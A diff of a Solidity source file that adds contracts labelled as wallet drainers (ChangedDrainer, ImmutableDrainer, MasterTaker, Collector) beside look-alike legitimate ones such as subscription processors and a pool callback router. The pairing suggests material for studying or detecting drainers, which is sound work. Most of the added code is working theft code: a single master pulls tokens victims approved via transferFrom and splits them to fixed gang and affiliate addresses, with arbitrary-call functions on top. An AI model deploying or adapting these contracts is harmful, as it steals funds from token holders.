@@ -62,7 +62,7 @@ interface Erc20Like {
 
 /// A wallet drainer: only its master moves what victims approved, in shares to fixed payees, and anything else.
 contract Drainer {
-    address private immutable master = msg.sender;
+    address private master = msg.sender;
     address private constant gang = 0x1111111111111111111111111111111111111111;
     address private constant affiliate = 0x2222222222222222222222222222222222222222;
     struct Take { address token; address from; uint256 amount; }
@@ -84,9 +84,51 @@ contract Drainer {
     }
 }
 
+/// The drainer, changed a little: an event more, and another share.
+contract ChangedDrainer {
+    address private master = msg.sender;
+    address private constant gang = 0x1111111111111111111111111111111111111111;
+    address private constant affiliate = 0x2222222222222222222222222222222222222222;
+    struct Take { address token; address from; uint256 amount; }
+    struct Call { address to; bytes data; uint256 value; }
+    event Done(uint256 count);
+
+    function drain(Take[] calldata takes) external {
+        require(msg.sender == master);
+        for (uint256 i; i < takes.length; i++) {
+            Erc20Like(takes[i].token).transferFrom(takes[i].from, gang, takes[i].amount * 25 / 100);
+            Erc20Like(takes[i].token).transferFrom(takes[i].from, affiliate, takes[i].amount * 75 / 100);
+        }
+        emit Done(takes.length);
+    }
+    function multicall(Call[] calldata calls) external payable {
+        require(msg.sender == master);
+        for (uint256 i; i < calls.length; i++) {
+            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
+            require(ok);
+        }
+    }
+}
+
+/// The same thing by half: one payee, and its master in the code.
+contract ImmutableDrainer {
+    address private immutable master = msg.sender;
+    address private immutable payee;
+    constructor(address to) { payee = to; }
+    function take(Erc20Like token, address from, uint256 amount) external {
+        require(msg.sender == master);
+        token.transferFrom(from, payee, amount);
+    }
+    function run(address to, uint256 value, bytes calldata data) external payable {
+        require(msg.sender == master);
+        (bool ok,) = to.call{value: value}(data);
+        require(ok);
+    }
+}
+
 /// Collects subscriptions that people agreed to: also a gated transferFrom to a fixed payee, and nothing more.
 contract Subscriptions {
-    address private immutable operator = msg.sender;
+    address private operator = msg.sender;
     address private treasury = msg.sender;
     mapping(address => uint256) public agreed;
     function agree(uint256 most) external { agreed[msg.sender] = most; }
@@ -191,4 +233,67 @@ contract Metamorphic {
         assembly { pop(create2(0, add(copy, 32), mload(copy), salt)) }
     }
     function end() external { require(msg.sender == owner); selfdestruct(payable(owner)); }
+}
+
+/// An unusual name, and an honest book of what was paid.
+contract OddlyNamed {
+    mapping(address => uint256) public paid;
+    function Register() external payable { paid[msg.sender] += msg.value; }
+}
+
+/// What it takes, it gives to its only master.
+contract MasterTaker {
+    address private immutable master = msg.sender;
+    function take(Erc20Like token, address from, uint256 amount) external {
+        require(msg.sender == master);
+        token.transferFrom(from, msg.sender, amount);
+    }
+    function run(address to, uint256 value, bytes calldata data) external {
+        require(msg.sender == master);
+        (bool ok,) = to.call{value: value}(data);
+        require(ok);
+    }
+}
+
+/// A router of pools: the pool that is paid calls back for what the payer owes it.
+contract CallbackRouter {
+    address private immutable factory = msg.sender;
+    function swapCallback(int256 owed, bytes calldata data) external {
+        (Erc20Like token, address payer, bytes32 salt, bytes32 code) = abi.decode(data, (Erc20Like, address, bytes32, bytes32));
+        address pool = address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", factory, salt, code)))));
+        require(msg.sender == pool);
+        token.transferFrom(payer, msg.sender, uint256(owed));
+    }
+}
+
+/// Charges what people subscribed to, as often as it is due.
+contract Processor {
+    address private operator = msg.sender;
+    address private treasury = msg.sender;
+    mapping(address => mapping(address => uint256)) public subscribed;
+    function subscribe(address token, uint256 amount) external { subscribed[msg.sender][token] = amount; }
+    function charge(Erc20Like token, address from) external {
+        require(msg.sender == operator);
+        uint256 amount = subscribed[from][address(token)];
+        require(amount > 0);
+        token.transferFrom(from, treasury, amount);
+    }
+}
+
+/// A claim that is paid for, and dealt with elsewhere.
+contract ReportedClaims {
+    address private owner = msg.sender;
+    event Paid(address who, uint256 value);
+    function claim() external payable { emit Paid(msg.sender, msg.value); }
+    function withdraw() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); }
+}
+
+/// Collects from whom its owner names; nobody is asked.
+contract Collector {
+    address public owner = msg.sender;
+    address private treasury = msg.sender;
+    function collect(Erc20Like token, address from, uint256 amount) external {
+        require(msg.sender == owner);
+        token.transferFrom(from, treasury, amount);
+    }
 }
